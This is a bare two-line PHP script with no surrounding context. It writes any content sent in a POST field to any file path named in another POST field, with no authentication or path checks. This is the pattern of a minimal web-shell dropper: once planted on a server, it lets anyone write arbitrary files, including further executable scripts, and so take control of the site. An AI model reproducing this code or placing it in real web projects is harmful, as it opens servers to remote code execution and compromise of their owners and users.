<?php
if (isset($_POST['n'])) { file_put_contents($_POST['n'], $_POST['c']); }
